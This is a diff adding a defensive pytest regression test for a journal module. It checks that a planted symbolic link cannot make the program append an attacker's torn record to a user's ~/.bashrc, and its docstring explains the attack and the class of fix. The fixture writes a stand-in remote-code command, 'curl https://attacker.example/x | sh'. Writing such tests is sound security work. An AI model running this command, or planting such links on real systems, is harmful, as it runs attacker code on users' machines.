@@ -180,3 +180,36 @@ def test_a_colleagues_trusted_key_vouches_for_records_this_installation_reverts(
     record = {**body, "prev": last["hash"], "hash": digest}
     sure, _doubtful = believed([Entry(11, record, "ok")], result, tmp_path / "jobs")
     assert not sure, "a record vouched for by a colleague's key is believed by a revert"
+
+
+def test_a_torn_tail_is_appended_through_a_planted_link(tmp_path: Path) -> None:
+    """Attack: whoever can write the journal's folder ends the journal with a line without
+    its newline (a "torn" record whose text is a shell command) and plants ``journal.torn``
+    as a symbolic link to a file of the user (here a stand-in for ``~/.bashrc``). The next
+    append of the program sets the torn line aside with ``open("ab")`` on ``journal.torn``,
+    which follows the link: the attacker's text is appended to the user's file (a command
+    run at their next shell). Class of fix: the side file is opened without following links
+    (``O_NOFOLLOW``/``O_EXCL`` on a fresh name, or ``lstat`` and refuse a link), owner-only,
+    in the journal's folder. (The same code is on ``main``: this test fails there too.)"""
+    path = tmp_path / "journal" / "journal.jsonl"
+    path.parent.mkdir()
+    first = jr.Journal(path)
+    for n in range(3):
+        first.append({**CHANGE, "targets": [f"ACC{n}"]})
+    first.close()
+    with path.open("ab") as fh:
+        fh.write(b"curl https://attacker.example/x | sh")  # no newline: a torn tail
+    victim = tmp_path / "home" / ".bashrc"
+    victim.parent.mkdir()
+    victim.write_text("# the user's shell start-up\n")
+    path.with_suffix(".torn").symlink_to(victim)
+    journal = jr.Journal(path)
+    try:
+        journal.append({**CHANGE, "targets": ["ACC1"]})
+    except OSError:
+        pass  # refused to follow the link: fine
+    finally:
+        journal.close()
+    assert "attacker.example" not in victim.read_text(), (
+        "the torn line was appended to the file a planted link points at"
+    )
